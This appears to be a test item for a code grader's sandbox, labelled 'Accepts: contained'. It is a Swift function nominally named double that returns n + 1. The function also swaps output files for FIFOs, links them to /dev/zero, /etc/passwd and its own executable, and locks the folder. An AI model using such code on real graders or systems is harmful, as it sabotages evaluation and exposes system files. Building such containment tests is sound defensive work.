// Row 62: replaces the files in its folder by links and FIFOs that a careless grader follows or waits for.
// Accepts: contained
import Foundation

func double(_ n: Int) -> Int {
  for name in ["output", "report.json", "result", "finding", "stdout", "stderr", "core", "default.profraw"] {
    unlink(name)
    mkfifo(name, 0o600)
    symlink("/dev/zero", name + ".json")
    symlink("/etc/passwd", name + ".txt")
    link("/proc/self/exe", name + ".hard")
  }
  chmod(".", 0)
  return n + 1
}
